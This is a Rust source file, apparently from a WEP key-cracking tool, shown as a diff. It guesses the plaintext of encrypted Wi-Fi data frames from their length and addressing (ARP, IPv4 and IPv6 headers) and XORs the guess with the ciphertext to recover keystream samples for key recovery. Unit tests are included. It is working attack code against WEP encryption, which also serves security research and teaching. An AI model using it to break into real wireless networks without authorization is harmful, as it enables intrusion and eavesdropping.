@@ -0,0 +1,384 @@
+//Prediction of the plaintext of encrypted data frames, which is used to recover their keystream
+
+use ieee80211::{DataFrame, DataFrameTrait, DataSubtype, FrameSubtype, FrameTrait, MacAddress};
+
+use crate::{keycracker::KeystreamSample, wep::WepFrame};
+
+pub const LLC_SNAP_HEADER_SIZE: usize = 8;
+pub const LLC_SNAP_PREFIX: [u8; 6] = [0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00];
+pub const ARP_PACKET_SIZE: usize = 28;
+pub const IPV4_HEADER_SIZE: usize = 20;
+pub const IPV6_HEADER_SIZE: usize = 40;
+
+//The longest plaintext which can be predicted (the LLC/SNAP header, ARP header and sender MAC of ARP packets)
+pub const MAX_PREDICTED_PLAINTEXT_LEN: usize = LLC_SNAP_HEADER_SIZE + 8 + 6;
+
+pub const ETHERTYPE_IPV4: u16 = 0x0800;
+pub const ETHERTYPE_ARP: u16 = 0x0806;
+pub const ETHERTYPE_IPV6: u16 = 0x86dd;
+
+const IPPROTO_UDP: u8 = 0x11;
+const IPPROTO_ICMPV6: u8 = 0x3a;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PlaintextClass {
+    ARPRequest,
+    ARPReply,
+    IPv4,
+    IPv6,
+}
+
+#[derive(Debug, Clone, Copy)]
+pub struct PlaintextPrediction {
+    pub class: PlaintextClass,
+    pub plaintext: [u8; KeystreamSample::KEYSTREAM_LEN],
+    pub plaintext_len: usize,
+
+    //How likely it is that the predicted plaintext is correct, in the range [0, 1]
+    pub confidence: f64,
+}
+
+pub struct DataFrameInfo {
+    pub source: MacAddress,
+    pub destination: MacAddress,
+    pub payload_len: usize,
+
+    //The traffic identifier of QoS data frames
+    pub qos_tid: Option<u8>,
+}
+
+pub trait PlaintextClassifier: Send + Sync {
+    fn predict(&self, frame: &DataFrameInfo) -> Option<PlaintextPrediction>;
+}
+
+//Predicts the plaintext of common frames based on their length and addressing
+pub struct KnownPlaintextClassifier;
+
+impl KnownPlaintextClassifier {
+    const ARP_REQUEST_CONFIDENCE: f64 = 1.;
+    const ARP_REPLY_CONFIDENCE: f64 = 0.9;
+    const NDP_CONFIDENCE: f64 = 0.8;
+    const IPV6_MULTICAST_CONFIDENCE: f64 = 0.3;
+    //Unicast IPv4 packets rarely have a zero identification, so these stay below the default confidence threshold
+    const IPV4_UNICAST_CONFIDENCE: f64 = 0.3;
+    const IPV4_MULTICAST_CONFIDENCE: f64 = 0.4;
+    const IPV4_BROADCAST_CONFIDENCE: f64 = 0.3;
+
+    fn predict_arp(frame: &DataFrameInfo) -> PlaintextPrediction {
+        //ARP requests are always broadcast, while replies are sent back to the requester
+        let (class, opcode, confidence) = if frame.destination.is_broadcast() {
+            (
+                PlaintextClass::ARPRequest,
+                0x01,
+                Self::ARP_REQUEST_CONFIDENCE,
+            )
+        } else {
+            (PlaintextClass::ARPReply, 0x02, Self::ARP_REPLY_CONFIDENCE)
+        };
+
+        let mut plaintext = llc_snap_plaintext(ETHERTYPE_ARP);
+        plaintext[8..16].copy_from_slice(&[0x00, 0x01, 0x08, 0x00, 0x06, 0x04, 0x00, opcode]);
+
+        //The sender hardware address is the source of the frame, which gives us some extra keystream bytes
+        plaintext[16..22].copy_from_slice(frame.source.as_bytes());
+
+        PlaintextPrediction {
+            class,
+            plaintext,
+            plaintext_len: MAX_PREDICTED_PLAINTEXT_LEN,
+            confidence,
+        }
+    }
+
+    fn predict_ipv6(frame: &DataFrameInfo) -> Option<PlaintextPrediction> {
+        if frame.payload_len < LLC_SNAP_HEADER_SIZE + IPV6_HEADER_SIZE {
+            return None;
+        }
+
+        //We can only guess the next header / hop limit for well known multicast groups
+        let dst = frame.destination.as_bytes();
+        let (next_header, hop_limit, confidence) = match dst[2..] {
+            //Solicited-node / all-nodes / all-routers multicast is used by NDP
+            [0xff, _, _, _] | [0x00, 0x00, 0x00, 0x01] | [0x00, 0x00, 0x00, 0x02] => {
+                (IPPROTO_ICMPV6, 0xff, Self::NDP_CONFIDENCE)
+            }
+            //Most other multicast traffic is UDP (mDNS, SSDP, ...)
+            _ => (IPPROTO_UDP, 0xff, Self::IPV6_MULTICAST_CONFIDENCE),
+        };
+
+        //Version + traffic class + flow label, payload length, next header, hop limit
+        let payload_len = (frame.payload_len - LLC_SNAP_HEADER_SIZE - IPV6_HEADER_SIZE) as u16;
+        let [len_hi, len_lo] = payload_len.to_be_bytes();
+
+        let traffic_class = guess_traffic_class(frame);
+
+        let mut plaintext = llc_snap_plaintext(ETHERTYPE_IPV6);
+        plaintext[8..16].copy_from_slice(&[
+            0x60 | (traffic_class >> 4),
+            (traffic_class & 0x0f) << 4,
+            0x00,
+            0x00,
+            len_hi,
+            len_lo,
+            next_header,
+            hop_limit,
+        ]);
+
+        Some(PlaintextPrediction {
+            class: PlaintextClass::IPv6,
+            plaintext,
+            plaintext_len: 16,
+            confidence,
+        })
+    }
+
+    fn predict_ipv4(frame: &DataFrameInfo) -> Option<PlaintextPrediction> {
+        if frame.payload_len < LLC_SNAP_HEADER_SIZE + IPV4_HEADER_SIZE {
+            return None;
+        }
+
+        //The identification field can't be known, so guess zero (as used by many stacks for DF packets)
+        //Broadcast traffic (DHCP, NetBIOS, ...) usually doesn't set the DF flag
+        let (flags, confidence) = if frame.destination.is_broadcast() {
+            (0x00, Self::IPV4_BROADCAST_CONFIDENCE)
+        } else if frame.destination.is_multicast() {
+            (0x40, Self::IPV4_MULTICAST_CONFIDENCE)
+        } else {
+            (0x40, Self::IPV4_UNICAST_CONFIDENCE)
+        };
+
+        //Version + IHL, DSCP, total length, identification, flags + fragment offset
+        let total_len = (frame.payload_len - LLC_SNAP_HEADER_SIZE) as u16;
+        let [len_hi, len_lo] = total_len.to_be_bytes();
+
+        let mut plaintext = llc_snap_plaintext(ETHERTYPE_IPV4);
+        plaintext[8..16].copy_from_slice(&[
+            0x45,
+            guess_traffic_class(frame),
+            len_hi,
+            len_lo,
+            0x00,
+            0x00,
+            flags,
+            0x00,
+        ]);
+
+        Some(PlaintextPrediction {
+            class: PlaintextClass::IPv4,
+            plaintext,
+            plaintext_len: 16,
+            confidence,
+        })
+    }
+}
+
+impl PlaintextClassifier for KnownPlaintextClassifier {
+    fn predict(&self, frame: &DataFrameInfo) -> Option<PlaintextPrediction> {
+        //WEP never encrypts EAPOL frames, so every protected frame should start with a LLC/SNAP header
+        //ARP packets have a fixed size
+        if frame.payload_len == LLC_SNAP_HEADER_SIZE + ARP_PACKET_SIZE {
+            return Some(Self::predict_arp(frame));
+        }
+
+        //IPv6 multicast traffic is sent to 33:33:xx:xx:xx:xx
+        if frame.destination.as_bytes()[..2] == [0x33, 0x33] {
+            return Self::predict_ipv6(frame);
+        }
+
+        //Assume everything else is IPv4
+        Self::predict_ipv4(frame)
+    }
+}
+
+fn guess_traffic_class(frame: &DataFrameInfo) -> u8 {
+    //WMM derives the TID of QoS frames from the top three DSCP bits, and most traffic doesn't set the rest
+    frame.qos_tid.map_or(0x00, |tid| (tid & 0x07) << 5)
+}
+
+pub fn llc_snap_header(ethertype: u16) -> [u8; LLC_SNAP_HEADER_SIZE] {
+    let mut header = [0u8; LLC_SNAP_HEADER_SIZE];
+    header[..LLC_SNAP_PREFIX.len()].copy_from_slice(&LLC_SNAP_PREFIX);
+    header[LLC_SNAP_PREFIX.len()..].copy_from_slice(&ethertype.to_be_bytes());
+    header
+}
+
+fn llc_snap_plaintext(ethertype: u16) -> [u8; KeystreamSample::KEYSTREAM_LEN] {
+    let mut plaintext = [0u8; KeystreamSample::KEYSTREAM_LEN];
+    plaintext[..LLC_SNAP_HEADER_SIZE].copy_from_slice(&llc_snap_header(ethertype));
+    plaintext
+}
+
+pub fn arp_request_plaintext(
+    sender_mac: &MacAddress,
+    sender_ip: [u8; 4],
+    target_ip: [u8; 4],
+) -> Vec<u8> {
+    let mut plaintext = llc_snap_header(ETHERTYPE_ARP).to_vec();
+
+    //Ethernet / IPv4, opcode 1 (request), and an unknown target hardware address
+    plaintext.extend_from_slice(&[0x00, 0x01, 0x08, 0x00, 0x06, 0x04, 0x00, 0x01]);
+    plaintext.extend_from_slice(sender_mac.as_bytes());
+    plaintext.extend_from_slice(&sender_ip);
+    plaintext.extend_from_slice(&[0u8; 6]);
+    plaintext.extend_from_slice(&target_ip);
+    plaintext
+}
+
+//Extracts the source and destination IPv4 addresses from a decrypted ARP / IPv4 packet
+pub fn ipv4_addresses(plaintext: &[u8]) -> Option<([u8; 4], [u8; 4])> {
+    let ethertype = u16::from_be_bytes(
+        plaintext
+            .get(LLC_SNAP_PREFIX.len()..LLC_SNAP_HEADER_SIZE)?
+            .try_into()
+            .unwrap(),
+    );
+    let (src_off, dst_off) = match ethertype {
+        ETHERTYPE_ARP => (14, 24),
+        ETHERTYPE_IPV4 => (12, 16),
+        _ => return None,
+    };
+
+    let packet = &plaintext[LLC_SNAP_HEADER_SIZE..];
+    Some((
+        packet.get(src_off..src_off + 4)?.try_into().unwrap(),
+        packet.get(dst_off..dst_off + 4)?.try_into().unwrap(),
+    ))
+}
+
+pub fn recover_sample(
+    data: &DataFrame,
+    has_fcs: bool,
+    classifier: &dyn PlaintextClassifier,
+) -> Option<(PlaintextPrediction, KeystreamSample)> {
+    //Get the IV and encrypted payload from the packet
+    let frame = WepFrame::from_data_frame(data, has_fcs)?;
+
+    let payload = frame.encrypted_payload();
+    if payload.len() < KeystreamSample::MIN_KEYSTREAM_LEN {
+        return None;
+    }
+
+    //Predict the plaintext of the frame
+    let prediction = classifier.predict(&DataFrameInfo {
+        source: data.source_address()?,
+        destination: data.destination_address()?,
+        payload_len: payload.len(),
+        qos_tid: matches!(data.subtype(), FrameSubtype::Data(DataSubtype::QoSData))
+            .then(|| data.bytes()[DataFrame::FRAGMENT_SEQUENCE_START + 2] & 0x0f),
+    })?;
+
+    let keystream_len = prediction.plaintext_len.min(payload.len());
+    if keystream_len < KeystreamSample::MIN_KEYSTREAM_LEN {
+        return None;
+    }
+
+    //Recover the keystream
+    let mut keystream = [0u8; KeystreamSample::KEYSTREAM_LEN];
+    for i in 0..keystream_len {
+        keystream[i] = payload[i] ^ prediction.plaintext[i];
+    }
+
+    Some((
+        prediction,
+        KeystreamSample {
+            keystream,
+            keystream_len,
+            iv: frame.iv,
+            confidence: prediction.confidence,
+        },
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::keycracker::KeyCrackerSettings;
+
+    fn predict(
+        destination: [u8; 6],
+        payload_len: usize,
+        qos_tid: Option<u8>,
+    ) -> PlaintextPrediction {
+        KnownPlaintextClassifier
+            .predict(&DataFrameInfo {
+                source: MacAddress::new([0x02, 0, 0, 0, 0, 1]),
+                destination: MacAddress::new(destination),
+                payload_len,
+                qos_tid,
+            })
+            .unwrap()
+    }
+
+    #[test]
+    fn test_known_plaintext_classifier() {
+        const ARP_LEN: usize = LLC_SNAP_HEADER_SIZE + ARP_PACKET_SIZE;
+
+        //ARP requests are broadcast, and have opcode 1
+        let pred = predict([0xff; 6], ARP_LEN, None);
+        assert_eq!(pred.class, PlaintextClass::ARPRequest);
+        assert_eq!(pred.plaintext_len, MAX_PREDICTED_PLAINTEXT_LEN);
+        assert_eq!(
+            pred.plaintext[..MAX_PREDICTED_PLAINTEXT_LEN],
+            [
+                0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00, 0x08, 0x06, 0x00, 0x01, 0x08, 0x00, 0x06, 0x04,
+                0x00, 0x01, 0x02, 0x00, 0x00, 0x00, 0x00, 0x01
+            ]
+        );
+
+        //ARP replies are unicast, and have opcode 2
+        let pred = predict([0x02, 0, 0, 0, 0, 2], ARP_LEN, None);
+        assert_eq!(pred.class, PlaintextClass::ARPReply);
+        assert_eq!(pred.plaintext[14..16], [0x00, 0x02]);
+        assert!(pred.confidence < 1.);
+
+        //IPv4 packets contain their length, and the DSCP can be guessed from the QoS TID
+        let pred = predict([0x02, 0, 0, 0, 0, 2], 100, None);
+        assert_eq!(pred.class, PlaintextClass::IPv4);
+        assert_eq!(
+            pred.plaintext[..16],
+            [
+                0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00, 0x08, 0x00, 0x45, 0x00, 0x00, 92, 0x00, 0x00,
+                0x40, 0x00
+            ]
+        );
+        assert!(pred.confidence < KeyCrackerSettings::default().min_sample_confidence);
+        assert_eq!(predict([0xff; 6], 100, None).plaintext[14], 0x00);
+        assert_eq!(
+            predict([0x02, 0, 0, 0, 0, 2], 100, Some(5)).plaintext[9],
+            0xa0
+        );
+
+        //IPv6 multicast packets contain their payload length
+        let pred = predict([0x33, 0x33, 0xff, 0, 0, 1], 100, Some(0));
+        assert_eq!(pred.class, PlaintextClass::IPv6);
+        assert_eq!(
+            pred.plaintext[6..16],
+            [
+                0x86,
+                0xdd,
+                0x60,
+                0x00,
+                0x00,
+                0x00,
+                0x00,
+                52,
+                IPPROTO_ICMPV6,
+                0xff
+            ]
+        );
+        assert_eq!(
+            predict([0x33, 0x33, 0, 0, 0, 0xfb], 100, Some(6)).plaintext[8..10],
+            [0x6c, 0x00]
+        );
+
+        //Frames too short to hold their headers can't be predicted
+        assert!(KnownPlaintextClassifier
+            .predict(&DataFrameInfo {
+                source: MacAddress::new([0x02, 0, 0, 0, 0, 1]),
+                destination: MacAddress::new([0x02, 0, 0, 0, 0, 2]),
+                payload_len: LLC_SNAP_HEADER_SIZE + IPV4_HEADER_SIZE - 1,
+                qos_tid: None,
+            })
+            .is_none());
+    }
+}